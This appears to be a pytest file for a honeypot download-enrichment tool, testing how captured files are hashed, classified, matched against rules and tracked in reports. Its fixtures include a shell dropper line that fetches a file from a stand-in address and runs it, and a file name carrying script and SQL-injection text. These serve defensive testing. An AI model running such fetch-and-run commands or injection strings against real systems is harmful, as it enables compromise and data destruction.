"""The downloads' folders: what is listed of them, what is not read twice, and which reports follow."""

import os
from datetime import timedelta
from hashlib import md5, sha256
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, text

from cowrie_assets.enrichment import downloads
from cowrie_assets.enrichment.download_folders import download_folders
from cowrie_assets.enrichment.downloads import Examined, examine_downloads
from cowrie_assets.reports.checks import check_reports
from cowrie_assets.reports.files import write_reports
from cowrie_assets.sensor_registry import Sensor, SensorRegistry
from cowrie_assets.settings import Settings
from cowrie_assets.summaries.similar_files import similar_files
from cowrie_assets.warehouse.codec import decode_text
from cowrie_assets.warehouse.engine import Warehouse
from cowrie_assets.warehouse.schema import texts
from cowrie_assets_tests.enrichment.judging import MONDAY, NOW, periods_of, stale
from cowrie_assets_tests.reports.facts import Facts, Session, StoredFile

DAYS = [MONDAY, MONDAY + timedelta(days=40)]
DROPPER = b"#!/bin/sh\nwget http://192.0.2.7/x; chmod 777 x; ./x\n"
HOSTILE = "<script>'; DROP TABLE texts; --\n\udcff"


class Rules:
    """Rules that match whatever holds a word."""

    def __init__(self, word: bytes) -> None:
        self.mark = self._word = word

    def matching(self, content: bytes) -> list[str]:
        return [f"own:{self._word.decode()}"] if self._word in content else []


def name(content: bytes) -> str:
    return sha256(content).hexdigest()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "downloads"
    made.mkdir()
    return made


def put(folder: Path, content: bytes, named: str | None = None) -> Path:
    path = folder / (named or name(content))
    path.write_bytes(content)
    return path


def examined(warehouse: Warehouse, *folders: Path, **given: Any) -> Examined:
    return examine_downloads(warehouse, folders, now_us=NOW, **given)


def listed(warehouse: Warehouse) -> dict[str, dict[str, Any]]:
    with warehouse.read() as connection:
        rows = connection.execute(text("SELECT * FROM downloaded_files")).mappings()
        return {row["name"]: dict(row) for row in rows}


def test_files_are_listed_with_what_their_bytes_say(warehouse: Warehouse, folder: Path) -> None:
    Facts(warehouse).store([Session(MONDAY, files=(StoredFile(name(DROPPER)),))])
    put(folder, DROPPER)
    put(folder, b"other", named=name(b"what it was"))
    put(folder, b"\x7fELF" + bytes(100), named=HOSTILE)
    put(folder, b"hidden", named=".gitignore")
    (folder / "link").symlink_to(folder / name(DROPPER))
    assert examined(warehouse, folder) == Examined(files=3, read=3, examined=3)
    found = listed(warehouse)
    dropper, other = found.pop(name(DROPPER)), found.pop(name(b"what it was"))
    (hostile,) = found.values()
    assert decode_text(hostile["name"]) == HOSTILE
    assert dropper["strings"] == '{"urls":["http://192.0.2.7/x"],"addresses":["192.0.2.7"]}'
    assert (dropper["type"], dropper["name_matches"], dropper["named_by_event"]) == ("script sh", 1, 1)
    assert (dropper["shasum"], dropper["md5"]) == (name(DROPPER), md5(DROPPER).hexdigest())
    assert (other["name_matches"], other["named_by_event"], other["shasum"]) == (0, 0, name(b"other"))
    assert (hostile["name_matches"], hostile["type"], float(hostile["entropy"]) < 1) == (
        None,
        "elf machine 0 32-bit",
        True,
    )


def test_what_is_known_is_not_read_and_what_is_gone_is_not_listed(warehouse: Warehouse, folder: Path) -> None:
    first, second = put(folder, b"one"), put(folder, b"two")
    assert examined(warehouse, folder) == Examined(2, 2, 2)
    assert examined(warehouse, folder) == Examined(2)
    os.utime(first, (1, 1))
    assert examined(warehouse, folder) == Examined(2, read=1)
    first.write_bytes(b"three")
    assert examined(warehouse, folder) == Examined(2, read=1, examined=1)
    assert listed(warehouse)[first.name]["name_matches"] == 0
    second.unlink()
    assert examined(warehouse, folder) == Examined(1, gone=1)
    assert list(listed(warehouse)) == [first.name]
    folder.rename(folder.parent / "away")
    (fault,) = examined(warehouse, folder).faults
    assert "downloads cannot be read: No such file" in fault
    assert list(listed(warehouse)) == [first.name]


@pytest.mark.sqlite_first
def test_nothing_leaves_the_list_while_a_folder_is_too_full(
    warehouse: Warehouse, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    names = {put(folder, b"%d" % number).name for number in range(3)}
    examined(warehouse, folder)
    monkeypatch.setattr(downloads, "MOST_FILES", 2)
    done = examined(warehouse, folder)
    assert (done.files, done.gone) == (2, 0)
    assert "has more than 2 files" in done.faults[0]
    assert listed(warehouse).keys() == names
    monkeypatch.setattr(downloads, "MOST_FILES", 3)
    assert examined(warehouse, folder) == Examined(3)


@pytest.mark.sqlite_first
def test_other_rules_examine_anew_and_an_unreadable_file_is_told(warehouse: Warehouse, folder: Path) -> None:
    put(folder, DROPPER)
    assert examined(warehouse, folder, rules=Rules(b"wget")).examined == 1
    assert listed(warehouse)[name(DROPPER)]["rules"] == '["own:wget"]'
    assert examined(warehouse, folder, rules=Rules(b"curl")) == Examined(1, 1, 1)
    assert listed(warehouse)[name(DROPPER)]["rules"] is None
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr("cowrie_assets.enrichment.file_contents.MOST_BYTES", 1)
        put(folder, b"xx")
        assert examined(warehouse, folder, rules=Rules(b"curl")) == Examined(2, 1)
    assert listed(warehouse)[name(b"xx")]["error"] == "it is longer than 1 GiB"


@pytest.mark.sqlite_first
def test_a_run_that_is_stopped_goes_on(warehouse: Warehouse, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(downloads, "_AT_A_TIME", 2)
    for number in range(6):
        put(folder, b"%d" % number)

    def stop(progress: Any) -> None:
        if progress.done == 4:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        examined(warehouse, folder, progress=stop)
    assert examined(warehouse, folder) == Examined(6, read=2, examined=2)


@pytest.mark.sqlite_first
def test_the_reports_of_a_file_and_of_those_like_it_follow(
    warehouse: Warehouse, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    digests = {b"one": "T1" + "00" * 35, b"two": "T1" + "00" * 34 + "01", b"far": "T1" + "00" * 3 + "FF" * 32}
    monkeypatch.setattr("cowrie_assets.enrichment.file_contents._tlsh", lambda content: digests[content])
    Facts(warehouse).store(
        [Session(day, files=(StoredFile(name(each)),)) for day, each in zip(DAYS, digests, strict=False)]
    )

    def write() -> None:
        for period in periods_of(DAYS):
            write_reports(warehouse, period, tmp_path, formats=["json"], now_us=NOW)
        assert [result for result in check_reports(warehouse, report_dir=tmp_path) if not result.passed] == []

    write()
    put(folder, b"one")
    examined(warehouse, folder)
    assert stale(warehouse) == {period.label for period in periods_of(DAYS[:1])}
    write()
    put(folder, b"far")
    put(folder, b"two")
    examined(warehouse, folder)
    assert stale(warehouse) == {period.label for period in periods_of(DAYS)}
    with warehouse.read() as connection:
        number = connection.execute(select(texts.c.id).where(texts.c.text == name(b"one"))).scalar_one()
        assert [(near.shasum, near.distance) for near in similar_files(connection, number)] == [(name(b"two"), 1)]
        assert similar_files(connection, 0) == []
    write()
    examined(warehouse, folder, rules=Rules(b"no such word"))
    assert stale(warehouse) == set()
    examined(warehouse, folder, rules=Rules(b"two"))
    assert stale(warehouse) == {period.label for period in periods_of(DAYS[1:])}


def test_folders_are_named_or_lie_beside_logs(tmp_path: Path) -> None:
    for each in ("hp-1/downloads", "hp-2", "named", "own"):
        (tmp_path / each).mkdir(parents=True)
    for each in ("hp-1", "hp-2"):
        (tmp_path / each / "cowrie.json").touch()
    registry = SensorRegistry((Sensor("a", downloads=tmp_path / "own"), Sensor("b")))
    settings = Settings(log_root=tmp_path, registry=registry)
    assert download_folders(settings, None) == [tmp_path / "own", tmp_path / "hp-1/downloads"]
    assert download_folders(settings, tmp_path / "named") == [tmp_path / "named", tmp_path / "own"]
    assert download_folders(Settings(), None) == []
